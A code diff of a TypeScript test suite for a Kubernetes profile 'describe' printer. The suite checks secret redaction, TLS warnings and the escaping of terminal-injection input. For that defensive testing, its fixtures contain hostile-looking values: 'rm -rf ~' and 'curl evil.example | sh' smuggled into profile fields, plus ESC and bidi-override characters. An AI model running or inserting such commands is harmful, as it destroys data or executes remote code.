@@ -1,6 +1,7 @@
 import assert from 'node:assert/strict'
 import {readFileSync, writeFileSync} from 'node:fs'
 import {describe, it} from 'node:test'
+import {formatCells} from '../../src/core/format.js'
 import {fileURLToPath} from 'node:url'
 import {
   ADDITIONAL_ARGS_EXTENSION,
@@ -13,12 +14,14 @@ import {
   decodeCertificateAuthorityData,
   describeProfile,
   describeProfileData,
-  printable,
   type DescribeInput,
   type ResolvedDescription,
   type UnresolvedDescription,
 } from '../../src/core/profile-describe.js'
 import type {Provider} from '../../src/core/provider-file.js'
+
+/** describe's text as the printer shows it. */
+const describeText = (...args: Parameters<typeof describeProfile>) => formatCells(describeProfile(...args))
 
 const fixtures = new URL('../fixtures/describe/', import.meta.url)
 const updateGolden = process.env.UPDATE_GOLDEN === '1'
@@ -207,7 +210,7 @@ function section(out: string, title: string): string[] {
 
 describe('describeProfile', () => {
   it('renders a full profile: metadata, conditions, properties, both provider lists, extensions, resolution', () => {
-    const out = describeProfile(input())
+    const out = describeText(input())
     assertGolden('full.txt', out)
 
     assert.doesNotMatch(out, /last-applied-configuration/)
@@ -229,7 +232,7 @@ describe('describeProfile', () => {
   })
 
   it('never prints an environment value or a proxy password without showEnv', () => {
-    const out = describeProfile(input())
+    const out = describeText(input())
     const json = JSON.stringify(describeProfileData(input()))
     for (const secret of [...SECRET_VALUES, PROXY_PASSWORD]) {
       assert.ok(!out.includes(secret), `text shows ${secret}`)
@@ -245,7 +248,7 @@ describe('describeProfile', () => {
   })
 
   it('prints environment values with showEnv, marking those the profile supplied', () => {
-    const out = describeProfile(input({showEnv: true}))
+    const out = describeText(input({showEnv: true}))
     assert.deepEqual(section(out, 'Environment'), [
       '  Environment:           HUB_TOKEN_FILE=provider-secret-value',
       // AppendIfNotExists: the provider's own AWS_REGION wins over the profile's.
@@ -261,7 +264,7 @@ describe('describeProfile', () => {
   })
 
   it('says what each reserved extension does under the matching provider', () => {
-    const out = describeProfile(input())
+    const out = describeText(input())
     const secretreader = section(out, 'secretreader').join('\n')
     assert.match(secretreader, /Effect: +passed to the plugin as ExecCredential\.spec\.cluster\.config$/m)
     assert.match(secretreader, /Effect: +appended to the plugin's arguments \(provider "secretreader" has/)
@@ -278,7 +281,7 @@ describe('describeProfile', () => {
       name: provider.name,
       execConfig: provider.execConfig,
     }))
-    const ignored = section(describeProfile(input({providers: ignoring})), 'secretreader').join('\n')
+    const ignored = section(describeText(input({providers: ignoring})), 'secretreader').join('\n')
     assert.match(
       ignored,
       /Effect: +ignored: provider "secretreader" has no profileSourcedCLIArgsPolicy \(Ignore\)/,
@@ -288,14 +291,14 @@ describe('describeProfile', () => {
       /Effect: +ignored: provider "secretreader" has no profileSourcedEnvVarsPolicy \(Ignore\)/,
     )
     assert.match(
-      describeProfile(input({providers: ignoring})),
+      describeText(input({providers: ignoring})),
       /Command: +\/usr\/local\/bin\/secretreader-plugin --hub-context 'hub admin'$/m,
     )
   })
 
   it('explains why nothing matches', () => {
     const other: Provider = {name: 'other', execConfig: {apiVersion: EXEC_API_V1, command: '/bin/other'}}
-    const out = describeProfile(input({providers: [other]}))
+    const out = describeText(input({providers: [other]}))
     assertGolden('no-match.txt', out)
     assert.match(
       out,
@@ -321,7 +324,7 @@ describe('describeProfile', () => {
       {name: ADDITIONAL_ARGS_EXTENSION, extension: '--kubeconfig=/tmp/evil'},
     ]
     profile.status!.credentialProviders = []
-    const out = describeProfile(input({profile}))
+    const out = describeText(input({profile}))
     assertGolden('malformed-extension.txt', out)
     assert.match(out, /Problem: +malformed: it must be a list of strings, not a string$/m)
     assert.match(
@@ -333,7 +336,7 @@ describe('describeProfile', () => {
 
     // Under Ignore the profile still resolves, and the problem is still shown.
     const ignoring = providers().map(({name, execConfig}) => ({name, execConfig}))
-    const tolerated = describeProfile(input({profile, providers: ignoring}))
+    const tolerated = describeText(input({profile, providers: ignoring}))
     assert.match(tolerated, /Problem: +malformed: it must be a list of strings, not a string$/m)
     assert.match(tolerated, /Command: +\/usr\/local\/bin\/secretreader-plugin --hub-context 'hub admin'$/m)
   })
@@ -344,7 +347,7 @@ describe('describeProfile', () => {
       {name: EXEC_EXTENSION, extension: {a: 1}},
       {name: EXEC_EXTENSION, extension: {a: 2}},
     ]
-    const out = describeProfile(input({profile}))
+    const out = describeText(input({profile}))
     assert.equal(out.match(/Problem: +appears more than once, so resolution refuses this entry/g)?.length, 2)
     assert.match(out, /Reason: +.*appears more than once/)
   })
@@ -359,7 +362,7 @@ describe('describeProfile', () => {
         },
       ],
     }
-    const out = describeProfile(input({profile}))
+    const out = describeText(input({profile}))
     assertGolden('insecure.txt', out)
     assert.match(out, /Server: +http:\/\/10\.0\.0\.7:8080 {2}WARNING: not https/)
     assert.match(out, /Insecure Skip TLS Verify: +true {2}WARNING: the server's certificate is not checked/)
@@ -374,7 +377,7 @@ describe('describeProfile', () => {
   it('points out insecure-skip-tls-verify set together with CA data, which kubectl refuses', () => {
     const profile = fullProfile()
     profile.status!.accessProviders![0]!.cluster!['insecure-skip-tls-verify'] = true
-    const out = describeProfile(input({profile}))
+    const out = describeText(input({profile}))
     assert.match(
       section(out, 'secretreader').join('\n'),
       /Insecure Skip TLS Verify: +true {2}WARNING: set together with certificate-authority-data, which kubectl refuses$/m,
@@ -388,7 +391,7 @@ describe('describeProfile', () => {
   it('renders a profile without status', () => {
     const profile = fullProfile()
     delete profile.status
-    const out = describeProfile(input({profile, clusterset: undefined}))
+    const out = describeText(input({profile, clusterset: undefined}))
     assertGolden('no-status.txt', out)
     for (const key of ['Clusterset', 'Kubernetes Version', 'Conditions', 'Properties', 'Access Providers']) {
       assert.match(out, new RegExp(`^${key}: +<none>$`, 'm'))
@@ -406,7 +409,7 @@ describe('describeProfile', () => {
     ]
     profile.metadata.labels = {team: 'a\nResolution:'}
     profile.spec.displayName = 'x\n  Command:  rm -rf ~'
-    const out = describeProfile(input({profile}))
+    const out = describeText(input({profile}))
     assert.equal(out.match(/^\s*Command:/gm)?.length, 1, 'only the real Command line starts a line')
     assert.ok(!out.includes('\u001b') && !out.includes('\u202e'), 'no raw ESC or bidi override')
     assert.match(out, /ok\\n {2}Command: {2}curl evil\.example \| sh\\x1b\[2J\\u202e$/m)
@@ -471,7 +474,7 @@ describe('decodeCertificateAuthorityData', () => {
     const profile = fullProfile()
     profile.status!.accessProviders![0]!.cluster!['certificate-authority-data'] = base64(intermediate)
     assert.match(
-      describeProfile(input({profile})),
+      describeText(input({profile})),
       /Certificate Authority: +CN=intermediate-ca, issued by CN=root-ca, expires 2036-\S+ \(in 9y\)$/m,
     )
   })
@@ -486,7 +489,7 @@ describe('decodeCertificateAuthorityData', () => {
     )
 
     const profile = fullProfile()
-    const out = describeProfile(input({profile, now: later}))
+    const out = describeText(input({profile, now: later}))
     assert.match(out, /Certificate Authority: +CN=example-ca, EXPIRED 2036-11-19T\S+ \(3y\d*d ago\)/)
   })
 
@@ -506,14 +509,8 @@ describe('decodeCertificateAuthorityData', () => {
     const profile = fullProfile()
     profile.status!.accessProviders![0]!.cluster!['certificate-authority-data'] = base64('hello')
     assert.match(
-      describeProfile(input({profile})),
+      describeText(input({profile})),
       /Certificate Authority: +<undecodable: certificate-authority-data holds no PEM certificate>$/m,
     )
-  })
-})
-
-describe('printable', () => {
-  it('escapes controls and bidi overrides, and leaves other text alone', () => {
-    assert.equal(printable('a\tb\r\n\u0007\u009b\u2066é'), 'a\\tb\\r\\n\\x07\\x9b\\u2066é')
   })
 })
